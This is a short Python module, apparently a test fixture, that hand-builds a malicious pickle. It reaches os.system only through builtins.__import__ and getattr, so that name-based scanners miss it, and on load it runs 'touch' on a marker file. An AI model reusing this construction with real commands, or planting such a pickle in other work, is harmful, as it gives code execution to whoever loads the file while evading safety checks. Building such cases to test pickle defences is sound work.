"""Nothing but harmless names: __import__, getattr, and a call of what they gave.

What a call gives is a record, and a call of a record is one too.
"""

from __future__ import annotations

from pathlib import Path

from pickles_by_hand import Called, Raw, opcodes, pickled, write


def build(folder: Path, marker: Path) -> Path:
    system = Called("builtins", "getattr", Called("builtins", "__import__", "os"), "system")
    return write(folder, pickled(Raw(opcodes(system) + opcodes((f"touch {marker}",)) + b"R")))
